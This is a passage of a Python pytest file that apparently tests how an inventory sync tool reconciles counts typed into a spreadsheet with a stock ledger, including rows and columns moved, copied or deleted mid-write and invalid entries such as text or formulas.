"""The sheet, end to end: people type and move things at the worst moment, and every typed change counts once.

A real gspread client speaks to the local sheet over HTTP. *The gap* is the time between a look and the write that
follows it: what a test does there happens just before the batch arrives (`in_the_gap`).
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from sheets_sync import answering, exchange, review
from sheets_sync.model import EVERY_SKU, Fact, Kind, Origin, Question, Stock
from sheets_sync.sandbox.sheet.server import Answer, Call, Proceed
from sheets_sync.sandbox.shops import Seed
from sheets_sync.sheet import tabs
from tests.hands import Clock
from tests.sheet_server import is_batch_update, is_read
from tests.world import World

MUG, SCARF, PLATE, PEN = "00123", "1E5", "MAR1", "1-2"
BEGAN = {MUG: 10, SCARF: 20, PLATE: 5, PEN: 7}


class Day(World):
    """A world after Start with one shop: 00123 stands at 10, 1E5 at 20, MAR1 at 5, 1-2 at 7."""

    def __init__(self, folder: Path, **how: Any) -> None:
        super().__init__(folder, vendors=("woocommerce",), **{"clock": Clock(), **how})
        self.numbers = iter(range(1, 1000))

    def in_the_gap(self, act: Callable[[], object]) -> None:
        self.faults.just_before(act)

    def moved(self, sku: str, kind: Kind, change: Stock) -> None:
        """Something that a channel told us of."""
        with self.ledger.begin() as tx:
            tx.append([Fact(f"order:{next(self.numbers)}", sku, kind, self.clock(), change, source="woocommerce")])

    def shipped(self, sku: str, units: int) -> None:
        self.moved(sku, Kind.SHIPMENT, Stock(on_hand=-units))

    def sold(self, sku: str, units: int) -> None:
        self.moved(sku, Kind.ORDER, Stock(committed=units))

    # what people do with rows and columns -----------------------------------------------------------------------

    @property
    def id(self) -> str:
        return self.book.spreadsheet_id

    def sort(self, header: str = tabs.SKU, *, descending: bool = False) -> None:
        self.store.sort(self.id, tabs.STOCK, self.letter(header), descending)

    def insert(self, above: str, count: int = 1) -> None:
        self.store.insert_rows(self.id, tabs.STOCK, self.row(above), count)

    def delete(self, sku: str) -> None:
        self.store.delete_rows(self.id, tabs.STOCK, self.row(sku))

    def copy(self, sku: str) -> int:
        """A row copied below itself, as people do it: insert a row, copy, paste. Gives the copy's number."""
        row = self.row(sku)
        self.store.insert_rows(self.id, tabs.STOCK, row + 1)
        self.store.copy_row(self.id, tabs.STOCK, row, row + 1)
        return row + 1

    def at(self, row: int, header: str, text: str) -> None:
        self.store.type(self.id, tabs.STOCK, f"{self.letter(header)}{row}", text)

    def new_row(self, sku: str, figure: str = "") -> int:
        row = len(self.skus()) + 1
        self.at(row, tabs.SKU, sku)
        if figure:
            self.at(row, tabs.ON_HAND, figure)
        return row

    # how it ends ------------------------------------------------------------------------------------------------

    def stands(self, **figures: int) -> None:
        """Ledger and cells agree, on these figures where they are not what the day began with."""
        named = {_SKUS.get(name, name): figure for name, figure in figures.items()}
        with self.ledger.read() as view:
            on_hand = {key.sku: balance.stock.on_hand for key, balance in view.balances().items()}
        assert on_hand == BEGAN | named
        assert {sku: self.cell(sku) for sku in on_hand if sku in self.skus()} == {
            sku: figure for sku, figure in on_hand.items() if sku in self.skus()
        }
        assert self.ledger.verify() == []

    def ends(self, asked: dict[str, str] | None = None, **figures: int) -> None:
        """Quiet; then every typed change is counted once, and nobody is asked but about `asked`."""
        self.sheet_passes()
        self.stands(**figures)
        assert self.questions() == (asked or {})

    def question(self, sku: str) -> Question:
        with self.ledger.read() as view:
            (question,) = view.questions(sku=sku)
        return question

    def edits(self, sku: str) -> list[int]:
        """The changes that people typed, as recorded."""
        return [e.change.on_hand for e in self.events(sku) if e.fact.kind is Kind.ADJUSTMENT]


_SKUS = {"mug": MUG, "scarf": SCARF, "plate": PLATE, "pen": PEN}


@pytest.fixture
def new_day(tmp_path: Path) -> Iterator[Day]:
    """Before anything has begun."""
    made = Day(tmp_path)
    try:
        yield made
        assert not made.faults.problems, "\n".join(made.faults.problems)
    finally:
        made.close()


@pytest.fixture
def day(new_day: Day) -> Day:
    new_day.begin()
    return new_day


# the plain road -------------------------------------------------------------------------------------------------


def test_a_typed_count_is_recorded_once_as_a_change(day: Day) -> None:
    day.type(MUG, "8")
    day.ends(mug=8)
    assert day.edits(MUG) == [-2]
    assert day.status(MUG) == "-2 recorded, now 8"


def test_a_pass_with_nothing_to_do_writes_nothing(day: Day) -> None:
    before = len(day.faults.calls)
    day.sheet_pass()
    assert [call.method for call in day.faults.calls[before:]] == ["GET"]


def test_what_rows_of_the_ledger_tab_do_to_its_size_is_known_without_reading_it(day: Day) -> None:
    before, seen = day.workbook.layout(), len(day.faults.calls)
    day.type(MUG, "8")
    day.sheet_passes()
    assert not [call for call in day.faults.calls[seen:] if call.method == "GET" and "values" not in call.path]
    assert day.memory.layout is not None
    rows = [layout.tabs[tabs.LEDGER].rows for layout in (before, day.memory.layout, day.workbook.layout())]
    assert rows == [rows[0], rows[0] + 1, rows[0] + 1]


def test_many_rows_at_once(day: Day) -> None:
    for sku, figure in (MUG, "8"), (SCARF, "25"), (PLATE, "0"), (PEN, "70"):
        day.type(sku, figure)
    day.ends(mug=8, scarf=25, plate=0, pen=70)


def test_more_rows_than_one_batch_may_hold(day: Day) -> None:
    limits = day.settings.limits.model_copy(update={"batch_requests": 20})
    day.settings = day.desk.settings = day.settings.__class__(
        day.settings.path, day.settings.sheet, day.settings.ledger, limits=limits, channels=day.settings.channels
    )
    rows = {f"N-{n}": n for n in range(12)}
    for sku, figure in rows.items():
        day.new_row(sku, str(figure))
    day.ends(**rows)
    for sku in list(rows)[::2]:
        day.type(sku, "50")
    day.ends(**rows | dict.fromkeys(list(rows)[::2], 50))


def test_S1_a_typed_count_is_a_change_against_what_was_shown(day: Day) -> None:
    day.shipped(MUG, 3)
    day.type(MUG, "8")
    day.sheet_pass()
    assert day.figures(MUG) == "5/0/5"
    assert day.status(MUG) == "-2 recorded, now 5; for exactly 8 use Set to"
    day.ends(mug=5)


def test_S1_with_a_real_order_that_is_shipped_while_someone_counts(day: Day) -> None:
    shop = day.shops["woocommerce"].shop
    order = shop.buy(MUG, 3)
    shop.ship(order)
    day.channel_pass("woocommerce")
    day.type(MUG, "8")
    day.passes()
    assert (day.figures(MUG), day.cell(MUG), shop.figure(MUG)) == ("5/0/5", 5, 5)


def test_S1_a_sale_alone_leaves_on_hand_and_raises_committed(day: Day) -> None:
    day.sold(MUG, 3)
    day.ends()
    assert day.figures(MUG) == "10/3/7"
    assert [day.cell(MUG, h) for h in (tabs.ON_HAND, tabs.COMMITTED, tabs.AVAILABLE)] == [10, 3, 7]


def test_S2_below_zero_is_held_and_asked(day: Day) -> None:
    day.type(PLATE, "4")
    day.sheet_passes()
    day.shipped(PLATE, 3)
    day.type(PLATE, "2")
    day.sheet_passes()
    assert (day.figures(PLATE), day.cell(PLATE), day.questions()) == ("1/0/1", 2, {PLATE: "below_zero"})
    assert "4 to 2 is -2, but only 1 are left, which would give -1" in day.status(PLATE)


def test_S2_sales_alone_may_take_available_below_zero_and_it_is_shown(day: Day) -> None:
    day.sold(PLATE, 6)
    day.ends()
    assert day.cell(PLATE, tabs.AVAILABLE) == -1


def test_S3_typed_back_before_the_look_is_no_edit(day: Day) -> None:
    day.type(MUG, "8")
    day.type(MUG, "10")
    day.ends()
    assert day.edits(MUG) == []


@pytest.mark.parametrize(("typed", "change", "result"), [("7", -3, 4), ("6", -4, 3)])
def test_S3_typing_the_ledgers_figure_over_an_older_one_is_an_edit(
    day: Day, typed: str, change: int, result: int
) -> None:
    day.shipped(MUG, 3)
    day.type(MUG, typed)
    day.ends(mug=result)
    assert day.edits(MUG) == [change]


def test_S5_reason_and_note_go_with_their_edit_and_only_then(day: Day) -> None:
    day.type(SCARF, "found", tabs.REASON)
    day.type(MUG, "loss", tabs.REASON)
    day.type(MUG, "behind the door", tabs.NOTE)
    day.type(MUG, "8")
    day.ends(mug=8)
    fact = day.events(MUG)[-1].fact
    assert (fact.reason, fact.note) == ("loss", "behind the door")
    assert [day.cell(MUG, h) for h in (tabs.REASON, tabs.NOTE)] == ["", ""]
    assert day.cell(SCARF, tabs.REASON) == "found"


def test_S5_a_reason_typed_in_the_gap_is_taken_with_its_edit_and_cleared(day: Day) -> None:
    day.type(MUG, "8")
    day.in_the_gap(lambda: day.type(MUG, "loss", tabs.REASON))
    day.ends(mug=8)
    assert day.events(MUG)[-1].fact.reason == "loss"
    assert day.cell(MUG, tabs.REASON) == ""


def test_S5_a_reason_stays_where_the_edit_was_taken_back_in_the_gap(day: Day) -> None:
    day.type(MUG, "8")
    day.type(MUG, "loss", tabs.REASON)
    day.in_the_gap(lambda: day.type(MUG, "10"))
    day.ends()
    assert (day.edits(MUG), day.cell(MUG, tabs.REASON)) == ([], "loss")


def test_S7_a_new_row_opens_when_it_stands_over_two_reads(day: Day) -> None:
    day.new_row("AB-1", "4")
    day.sheet_pass()
    assert not day.events("AB-1")
    day.sheet_pass()
    (event,) = day.events("AB-1")
    assert (event.fact.kind, event.balance.on_hand) == (Kind.OPENING, 4)
    day.ends(**{"AB-1": 4})


def test_S7_a_corrected_sku_opens_one_sku(day: Day) -> None:
    row = day.new_row("AB-1", "4")
    day.sheet_pass()
    day.at(row, tabs.SKU, "AB-10")
    day.ends(**{"AB-10": 4})


def test_S7_a_row_without_a_figure_or_with_text_opens_nothing(day: Day) -> None:
    day.new_row("AB-1")
    day.new_row("AB-2", "some")
    day.sheet_passes()
    day.stands()
    assert day.questions() == {"AB-2": "text"}


def test_S7_a_row_duplicated_to_make_a_new_sku_is_asked_first(day: Day) -> None:
    row = day.copy(MUG)
    day.at(row, tabs.SKU, "00124")
    day.sheet_passes()
    day.stands()
    assert day.questions() == {"00124": "other_tag"}
    day.at(row, tabs.ON_HAND, "")
    day.sheet_passes()
    day.at(row, tabs.ON_HAND, "3")
    day.ends(**{"00124": 3})


def test_S9_a_vanished_row_is_asked_and_put_back_as_it_was(day: Day) -> None:
    day.delete(PEN)
    day.sheet_passes()
    assert (day.questions(), day.figures(PEN)) == ({PEN: "vanished"}, "7/0/7")
    day.new_row(PEN)
    day.ends()


def test_S9_a_new_sku_as_another_vanishes_opens_nothing(day: Day) -> None:
    row = day.row(PEN)
    day.delete(PEN)
    day.store.insert_rows(day.id, tabs.STOCK, row)
    day.at(row, tabs.SKU, "PEN")
    day.at(row, tabs.ON_HAND, "7")
    day.sheet_passes()
    day.stands()
    assert day.questions() == {"PEN": "rename"}
    day.restart()
    day.sheet_passes()
    assert day.questions() == {"PEN": "rename"}


def test_S9_a_row_that_vanished_long_ago_stands_in_no_new_skus_way(day: Day) -> None:
    day.delete(PEN)
    day.sheet_passes()
    day.restart()
    day.new_row("NEW-1", "3")
    day.ends({PEN: "vanished"}, **{"NEW-1": 3})


def test_S9_a_retyped_sku_asks_and_typed_back_all_is_well(day: Day) -> None:
    row = day.row(MUG)
    day.at(row, tabs.SKU, "00124")
    day.sheet_passes()
    day.stands()
    assert day.questions() == {"00124": "rename"}
    day.at(row, tabs.SKU, MUG)
    day.ends()


def test_S9_a_retyped_sku_stays_asked_where_our_figure_fell_on_its_row(day: Day) -> None:
    """The question must not end with the mistaken write, or the row would open a second SKU with the same goods."""
    row = day.row(PLATE)
    day.at(row, tabs.SKU, "PLATE")
    for header in (tabs.TAG_SKU, tabs.TAG_EXCHANGE, tabs.TAG_FIGURE):
        day.at(row, header, "")
    day.sheet_passes()
    assert day.questions() == {"PLATE": "rename"}
    day.type(MUG, "8")
    day.in_the_gap(lambda: day.sort(descending=True))
    day.sheet_passes()
    assert (day.questions(), day.figures(MUG)) == ({"PLATE": "rename"}, "8/0/8")
    assert "PLATE" not in {event.fact.sku for event in day.events()}


def answer(day: Day, sku: str, word: str) -> None:
    with day.ledger.read() as view:
        (question,) = view.questions(sku=sku)
    answering.answer(day.desk, review.short_id(question), word)


def test_S9_a_new_sku_that_looks_like_another_opens_nothing_until_it_is_said_what_it_is(day: Day) -> None:
    row = day.new_row("mar1", "4")
    day.sheet_passes()
    assert day.questions() == {"mar1": "alike"} and PLATE in day.status("mar1")
    assert day.figures(PLATE) == "5/0/5" and "mar1" not in {event.fact.sku for event in day.events()}
    answer(day, "mar1", "typo")
    day.sheet_passes()
    assert day.questions() == {} and "correct the SKU" in day.status("mar1")
    day.at(row, tabs.SKU, "MAR10")
    day.sheet_passes()
    assert (day.questions(), day.figures("MAR10")) == ({}, "4/0/4")


def test_S9_a_sku_that_looks_like_another_may_be_one_of_its_own(day: Day) -> None:
    day.new_row("mar 1", "4")
    day.sheet_passes()
    answer(day, "mar 1", "new")
    day.sheet_passes()
    assert (day.questions(), day.figures("mar 1"), day.figures(PLATE)) == ({}, "4/0/4", "5/0/5")


def test_S11_damage_moves_units(day: Day) -> None:
    day.type(MUG, "8")
    day.type(MUG, "damage", tabs.REASON)
    day.ends(mug=8)
    assert (day.cell(MUG, tabs.DAMAGED), day.status(MUG)) == (2, "2 moved to Damaged, now 8")
    day.type(MUG, "9")
    day.type(MUG, "repaired", tabs.REASON)
    day.ends(mug=9)
    assert day.cell(MUG, tabs.DAMAGED) == 1


@pytest.mark.parametrize(
    ("typed", "reason"), [("8", "disposed"), ("12", "repaired"), ("12", "damage"), ("8", "repaired")]
)
def test_S11_a_reason_that_does_not_fit_is_asked(day: Day, typed: str, reason: str) -> None:
    day.type(MUG, typed)
    day.type(MUG, reason, tabs.REASON)
    day.sheet_passes()
    assert (day.figures(MUG), day.questions(), day.cell(MUG, tabs.REASON)) == ("10/0/10", {MUG: "reason"}, reason)
    day.type(MUG, "", tabs.REASON)
    day.ends(mug=int(typed))


# holds ----------------------------------------------------------------------------------------------------------


def held_below_zero(day: Day) -> None:
    """MAR1: tag 5, ledger 2, typed 1: -4 is held."""
    day.shipped(PLATE, 3)
    day.type(PLATE, "1")
    day.sheet_passes()
    assert day.questions() == {PLATE: "below_zero"}


def test_H1_sales_do_not_change_a_hold_and_others_are_judged_alone(day: Day) -> None:
    held_below_zero(day)
    key = day.question(PLATE).key
    day.shipped(PLATE, 1)
    day.type(MUG, "9")
    day.sheet_passes()
    assert (day.question(PLATE).key, day.figures(PLATE), day.figures(MUG)) == (key, "1/0/1", "9/0/9")


@pytest.mark.parametrize("back", ["5", "2"])
def test_H2_put_back_to_the_tag_or_to_the_ledgers_figure_is_no_event(day: Day, back: str) -> None:
    held_below_zero(day)
    day.type(PLATE, back)
    day.ends(plate=2)
    assert day.edits(PLATE) == []


def test_H2_a_held_cell_is_not_rewritten(day: Day) -> None:
    held_below_zero(day)
    assert day.cell(PLATE) == 1
    assert "only 2 are left" in day.status(PLATE)


def test_H2_held_in_the_gap_the_cell_shows_the_ledgers_figure_and_status_quotes(day: Day) -> None:
    day.shipped(PLATE, 3)
    day.in_the_gap(lambda: day.type(PLATE, "1"))
    day.ends({PLATE: "below_zero"}, plate=2)
    assert day.question(PLATE).origin is Origin.IMAGE
    assert "You typed 1" in day.status(PLATE)


# what is not a count --------------------------------------------------------------------------------------------


@pytest.mark.parametrize("typed", ["", "12 pcs", "1o", "3.5", "-2", "'1e3", "TRUE", "=1/0"])
def test_what_is_not_a_whole_number_is_flagged_and_never_0(day: Day, typed: str) -> None:
    day.type(MUG, typed)
    day.passes()
    assert (day.figures(MUG), day.questions()) == ("10/0/10", {MUG: "text"})
    assert "the ledger keeps 10" in day.status(MUG)
    assert day.figure("woocommerce", MUG) == 10
    day.type(MUG, "9")
    day.ends(mug=9)


def test_a_sum_typed_just_after_the_look_is_not_taken_for_what_stood_there(day: Day) -> None:
    def act(call: Call, proceed: Proceed) -> Answer:
        day.type(MUG, "=5+3")
        return proceed()

    day.type(MUG, "100")
    day.faults.order(act, lambda call: is_read(call) and "FORMULA" in call.query)
    day.sheet_pass()
    assert (day.cell(MUG), day.edits(MUG)) == (8, []), "nothing is written over it"
    day.ends(mug=8)
    assert day.edits(MUG) == [-2]


def test_a_formula_of_numbers_counts_as_its_value(day: Day) -> None:
    day.type(MUG, "=12+5")
    day.ends(mug=17)


def test_a_blank_row_is_nothing(day: Day) -> None:
    before = day.last_event()
    day.insert(SCARF, 2)
    day.ends()
    assert day.last_event() == before


def test_a_sku_in_two_rows_counts_in_neither(day: Day) -> None:
    row = day.copy(MUG)
    day.at(row, tabs.ON_HAND, "3")
    day.sheet_passes()
    assert (day.figures(MUG), day.questions()) == ("10/0/10", {MUG: "duplicate"})
    day.store.delete_rows(day.id, tabs.STOCK, row)
    day.ends()


def test_of_two_rows_the_one_that_is_kept_counts(day: Day) -> None:
    row = day.copy(MUG)
    day.at(row, tabs.ON_HAND, "3")
    day.sheet_passes()
    day.store.delete_rows(day.id, tabs.STOCK, row - 1)
    day.ends(mug=3)


def test_a_change_that_was_copied_counts_once(day: Day) -> None:
    day.type(MUG, "8")
    row = day.copy(MUG)
    day.sheet_passes()
    assert day.figures(MUG) == "10/0/10"
    day.store.delete_rows(day.id, tabs.STOCK, row)
    day.ends(mug=8)
    assert day.edits(MUG) == [-2]


def test_a_sku_that_is_a_number_is_flagged_and_its_row_left_alone(day: Day) -> None:
    row = day.new_row("77")
    where = exchange.grid_range(day.store.book(day.id).tab_named(tabs.STOCK).sheet_id, row - 1, row, 0, 1)
    cell = {"userEnteredValue": {"numberValue": 77}}
    day.store.apply(day.id, [{"updateCells": {"range": where, "rows": [{"values": [cell]}], "fields": "*"}}], "person")
    day.at(row, tabs.ON_HAND, "4")
    day.sheet_passes()
    day.stands()
    assert day.questions() == {"77": "sku_number"}


# the gap --------------------------------------------------------------------------------------------------------


def test_an_edit_typed_between_look_and_exchange_counts_once(day: Day) -> None:
    day.type(MUG, "8")
    day.in_the_gap(lambda: day.type(MUG, "6"))
    day.ends(mug=6)
    assert day.edits(MUG) == [-4]


def test_an_edit_typed_in_the_gap_over_a_row_that_only_needed_its_figure(day: Day) -> None:
    day.shipped(MUG, 3)
    day.in_the_gap(lambda: day.type(MUG, "8"))
    day.ends(mug=5)


def test_another_rows_edit_in_the_gap_is_left_where_it_is(day: Day) -> None:
    day.type(MUG, "8")
    day.in_the_gap(lambda: day.type(SCARF, "19"))
    day.ends(mug=8, scarf=19)


def test_text_typed_in_the_gap_is_quoted_and_asked(day: Day) -> None:
    day.type(MUG, "8")
    day.in_the_gap(lambda: day.type(MUG, "12 pcs"))
    day.ends({MUG: "text"})
    assert "'12 pcs' was typed while we wrote" in day.status(MUG)


def test_rows_sorted_in_the_gap(day: Day) -> None:
    day.type(MUG, "8")
    day.type(SCARF, "25")
    day.in_the_gap(lambda: day.sort(descending=True))
    day.ends(mug=8, scarf=25)


def test_rows_sorted_in_the_gap_with_an_edit_on_the_row_that_came_there(day: Day) -> None:
    day.type(MUG, "8")
    day.in_the_gap(lambda: (day.type(PLATE, "6"), day.sort(descending=True)))
    day.ends(mug=8, plate=6)


def test_a_row_inserted_in_the_gap(day: Day) -> None:
    day.type(SCARF, "25")
    day.in_the_gap(lambda: day.insert(SCARF))
    day.ends(scarf=25)
    blank = day.store.rows(day.id, tabs.STOCK)[day.row(SCARF) - 2]
    assert set(blank) <= {""}


def test_a_row_inserted_and_named_in_the_gap_keeps_what_was_typed_in_it(day: Day) -> None:
    day.type(SCARF, "25")

    def act() -> None:
        row = day.row(SCARF)
        day.insert(SCARF)
        for header, text in (tabs.SKU, "NEW-1"), (tabs.TITLE, "Vase"), (tabs.ON_HAND, "4"), (tabs.LOW_STOCK, "2"):
            day.at(row, header, text)

    day.in_the_gap(act)
    day.ends(scarf=25, **{"NEW-1": 4})
    assert (day.cell("NEW-1", tabs.TITLE), day.cell("NEW-1", tabs.LOW_STOCK)) == ("Vase", 2)


def our_figure_left_in_a_row_named_next(day: Day) -> int:
    """A row is inserted just where 25 is written, and as that is cleared, a column is: On hand keeps it, untagged."""
    day.type(SCARF, "25")
    day.in_the_gap(lambda: day.insert(SCARF))
    day.sheet_pass()
    row = day.row(SCARF) - 1
    day.in_the_gap(lambda: insert_at(tabs.ON_HAND)(day))
    day.sheet_pass()
    day.at(row, tabs.SKU, "NEW-1")
    return row


def test_our_figure_left_in_a_row_without_a_sku_opens_none(day: Day) -> None:
    row = our_figure_left_in_a_row_named_next(day)
    day.ends({"NEW-1": "stray"}, scarf=25)
    assert "25 was left in this row by mistake" in day.status("NEW-1")
    day.at(row, tabs.ON_HAND, "4")
    day.ends(scarf=25, **{"NEW-1": 4})


def test_our_figure_left_in_a_row_without_a_sku_is_answered_in_review(day: Day) -> None:
    our_figure_left_in_a_row_named_next(day)
    day.sheet_passes()
    answer(day, "NEW-1", "count")
    day.ends(scarf=25, **{"NEW-1": 25})


def test_what_goes_back_falls_on_another_row_and_somebody_types_over_it(day: Day) -> None:
    """In three gaps running: a row is inserted where 25 is written, named as that is cleared, moved as it goes back."""
    day.type(MUG, "9")
    day.type(SCARF, "25")
    day.in_the_gap(lambda: day.insert(SCARF))
    day.sheet_pass()
    row = day.row(SCARF) - 1
    day.type(MUG, "8")  # uses the tag that this row shares with the one inserted
    day.in_the_gap(lambda: day.at(row, tabs.SKU, "NEW-1"))
    day.sheet_pass()
    day.in_the_gap(lambda: day.store.move_rows(day.id, tabs.STOCK, row, day.row(MUG)))
    day.sheet_pass()
    assert (day.cell(MUG), day.cell(MUG, tabs.TAG_SKU)) == (25, ""), "25 has gone back into the wrong row"
    day.type(MUG, "22")
    day.ends(mug=5, scarf=25)
    assert day.edits(MUG) == [-1, -1, -3]


@pytest.mark.parametrize(("typed", "kind"), [("20000", "jump"), ("25 pcs", "text"), ("=A2+5", "formula_held")])
def test_what_is_asked_about_goes_back_and_what_is_typed_over_ours_counts(day: Day, typed: str, kind: str) -> None:
    """8 for the mug falls on the scarf's row, which is asked about; in the next gap somebody types 11 over the 8."""
    day.type(SCARF, typed)
    day.sheet_passes()
    asked = day.cell(SCARF)
    day.type(MUG, "8")
    row = day.row(MUG)
    day.in_the_gap(lambda: day.store.move_rows(day.id, tabs.STOCK, day.row(SCARF), row))
    day.sheet_pass()
    assert day.cell(SCARF) == 8
    day.in_the_gap(lambda: day.type(SCARF, "11"))
    day.sheet_passes()
    assert (day.cell(SCARF), day.edits(SCARF), day.figures(SCARF)) == (asked, [3], "23/0/23")
    assert (day.figures(MUG), day.questions()) == ("8/0/8", {SCARF: kind})


def a_formula_is_overwritten(day: Day, when: str) -> None:
    """8 for the mug falls on the scarf's row, where a formula stands that gives 128."""
    if when != "in the gap":
        day.type(SCARF, "=A2+5")
        day.sheet_passes()
    day.type(MUG, "8")
    row = day.row(MUG)

    def act() -> None:
        if when == "in the gap":
            day.type(SCARF, "=A2+5")
        if when == "before, and columns moved":
            move(tabs.TITLE, tabs.ON_HAND)(day)
        day.store.move_rows(day.id, tabs.STOCK, day.row(SCARF), row)

    day.in_the_gap(act)
    day.sheet_passes()
    assert (day.cell(SCARF), day.cell(MUG)) == (128, 8)


@pytest.mark.parametrize("when", ["before", "in the gap", "before, and columns moved"])
def test_S6_a_formula_that_comes_back_as_its_value_is_held(day: Day, when: str) -> None:
    a_formula_is_overwritten(day, when)
    assert (day.edits(SCARF), day.questions()) == ([], {SCARF: "formula_held"})
    assert "only its value 128 came back. The ledger keeps 20." in day.status(SCARF)
    day.type(SCARF, "25")
    day.ends(mug=8, scarf=25)
    assert day.edits(SCARF) == [5]


def test_S6_the_value_that_came_back_is_a_count_where_review_says_so(day: Day) -> None:
    a_formula_is_overwritten(day, "before")
    answer(day, SCARF, "count")
    day.ends(mug=8, scarf=128)


def test_S6_a_formula_read_as_of_before_its_row_moved_is_not_taken_for_a_count(day: Day) -> None:
    day.type(SCARF, "=A2+5")
    day.sheet_passes()
    value, before = day.cell(SCARF), day.store.book(day.id)
    day.store.move_rows(day.id, tabs.STOCK, day.row(SCARF), day.row(MUG))
    day.type(PLATE, "4")
    day.faults.stale(before, lambda call: is_read(call) and "FORMULA" in call.query)
    day.sheet_pass()
    assert (day.cell(SCARF), day.edits(SCARF)) == (value, [])
    day.sheet_passes()
    assert (day.cell(SCARF), day.edits(SCARF), day.questions()) == (value, [], {SCARF: "formula_held"})
    assert day.cell(PLATE) == 4


def test_S6_a_formula_typed_over_a_sum_is_held_though_the_sum_is_read_once_more(day: Day) -> None:
    day.type(SCARF, "=12+9")
    before = day.store.book(day.id)
    day.sheet_passes()
    assert day.figures(SCARF) == "21/0/21"
    day.type(SCARF, "=A2+5")
    value = day.cell(SCARF)
    day.faults.stale(before, lambda call: is_read(call) and "FORMULA" in call.query and "Stock" in call.query)
    day.sheet_pass()
    assert (day.cell(SCARF), day.figures(SCARF)) == (value, "21/0/21")
    day.sheet_passes()
    assert (day.cell(SCARF), day.figures(SCARF), day.questions()) == (value, "21/0/21", {SCARF: "formula_held"})


def test_a_row_deleted_in_the_gap_above_an_edit(day: Day) -> None:
    day.type(PLATE, "4")
    day.in_the_gap(lambda: day.delete(MUG))
    day.ends({MUG: "vanished"}, plate=4)


def test_the_edited_row_itself_deleted_in_the_gap(day: Day) -> None:
    day.type(MUG, "8")
    day.in_the_gap(lambda: day.delete(MUG))
    day.ends({MUG: "vanished"})


def test_rows_deleted_at_the_end_of_the_sheet_in_the_gap(day: Day) -> None:
    rows = len(day.store.book(day.id).tab_named(tabs.STOCK).values)
    day.store.delete_rows(day.id, tabs.STOCK, 6, rows - 5)
    day.type(PEN, "4")
    day.in_the_gap(lambda: day.delete(SCARF))
    day.ends({SCARF: "vanished"}, pen=4)


def test_the_edited_row_copied_in_the_gap_counts_once(day: Day) -> None:
    day.type(MUG, "8")
    copies: list[int] = []
    day.in_the_gap(lambda: copies.append(day.copy(MUG)))
    day.sheet_passes()
    assert day.figures(MUG) == "8/0/8"
    day.store.delete_rows(day.id, tabs.STOCK, copies[0])
    day.ends(mug=8)


def test_the_edited_row_copied_in_the_gap_and_the_copy_kept_is_asked(day: Day) -> None:
    day.type(MUG, "8")
    day.in_the_gap(lambda: day.copy(MUG))
    day.sheet_passes()
    day.delete(MUG)
    day.ends({MUG: "used_tag"}, mug=8)


def test_the_sku_retyped_in_the_gap_gets_its_figure_back(day: Day) -> None:
    day.type(MUG, "8")
    row = day.row(MUG)
    day.in_the_gap(lambda: day.at(row, tabs.SKU, "00124"))
    day.sheet_passes()
    assert (day.figures(MUG), day.cell("00124"), set(day.questions())) == ("10/0/10", 8, {"00124"})
    day.at(row, tabs.SKU, MUG)
    day.ends(mug=8)
    assert day.edits(MUG) == [-2]


def test_the_sku_retyped_in_the_gap_to_one_that_is_there_gets_its_figure_back(day: Day) -> None:
    day.type(MUG, "8")
    row = day.row(MUG)
    day.in_the_gap(lambda: day.at(row, tabs.SKU, SCARF))
    day.sheet_passes()
    assert day.figures(MUG) == "10/0/10"
    assert day.figures(SCARF) == "20/0/20"
    day.at(row, tabs.SKU, MUG)
    day.ends(mug=8)


PERSONS = {tabs.TITLE: "Mug, very blue", tabs.LOW_STOCK: "3", "Shelf": "A-3", tabs.NOTE: "soon"}


def own_columns(day: Day) -> None:
    """A column of the person's own between On hand and Reason, and something in each that is theirs."""
    letter = day.letter(tabs.REASON)
    day.store.insert_columns(day.id, tabs.STOCK, letter)
    day.store.type(day.id, tabs.STOCK, f"{letter}1", "Shelf")
    for header, text in PERSONS.items():
        for sku in (MUG, SCARF):
            day.type(sku, text, header)
    day.sheet_passes()


def theirs(day: Day, sku: str) -> dict[str, str]:
    return {header: str(day.cell(sku, header)) for header in PERSONS}


def insert_at(header: str) -> Callable[[Day], object]:
    return lambda day: day.store.insert_columns(day.id, tabs.STOCK, day.letter(header))


def move(header: str, before: str) -> Callable[[Day], object]:
    return lambda day: day.store.move_columns(day.id, tabs.STOCK, day.letter(header), day.letter(before))


COLUMN_MOVES = {
    "inserted left of SKU": insert_at(tabs.SKU),
    "inserted left of Title": insert_at(tabs.TITLE),
    "inserted within the tag": insert_at(tabs.TAG_FIGURE),
    "inserted left of On hand": insert_at(tabs.ON_HAND),
    "inserted left of Reason": insert_at(tabs.REASON),
    "two inserted": lambda day: day.store.insert_columns(day.id, tabs.STOCK, day.letter(tabs.TAG_SKU), 2),
    "Title moved right of the tag": move(tabs.TITLE, tabs.ON_HAND),
    "On hand moved to the front": move(tabs.ON_HAND, tabs.SKU),
    "Note moved left of the tag": move(tabs.NOTE, tabs.TAG_SKU),
    "Shelf moved to the front": move("Shelf", tabs.SKU),
    "SKU moved behind Note": move(tabs.SKU, tabs.COMMITTED),
    "SKU moved out of what was copied": move(tabs.SKU, tabs.UPDATED),
}


@pytest.mark.parametrize("name", COLUMN_MOVES)
def test_columns_inserted_and_moved_in_the_gap_give_all_back(day: Day, name: str) -> None:
    own_columns(day)
    day.type(MUG, "8")
    day.shipped(SCARF, 1)
    day.in_the_gap(lambda: COLUMN_MOVES[name](day))
    day.ends(mug=8, scarf=19)
    assert day.edits(MUG) == [-2]
    assert theirs(day, MUG) == PERSONS | {tabs.NOTE: ""}  # taken with the edit
    assert day.events(MUG)[-1].fact.note == "soon"
    assert theirs(day, SCARF) == PERSONS


@pytest.mark.parametrize("name", COLUMN_MOVES)
def test_columns_moved_before_the_look_are_simply_followed(day: Day, name: str) -> None:
    own_columns(day)
    COLUMN_MOVES[name](day)
    day.type(MUG, "8")
    day.ends(mug=8)
    assert theirs(day, SCARF) == PERSONS


def test_a_header_renamed_in_the_gap_and_named_as_before_again(day: Day) -> None:
    letter = day.letter(tabs.ON_HAND)
    day.type(MUG, "8")
    day.in_the_gap(lambda: day.store.type(day.id, tabs.STOCK, f"{letter}1", "Counted"))
    day.sheet_pass()
    day.store.type(day.id, tabs.STOCK, f"{letter}1", tabs.ON_HAND)
    day.ends(mug=8)


def test_a_header_renamed_in_the_gap_and_another_row_written_over_it_in_the_next(day: Day) -> None:
    letter = day.letter(tabs.ON_HAND)
    day.type(MUG, "8")
    day.in_the_gap(lambda: day.store.type(day.id, tabs.STOCK, f"{letter}1", "Counted"))
    day.sheet_pass()
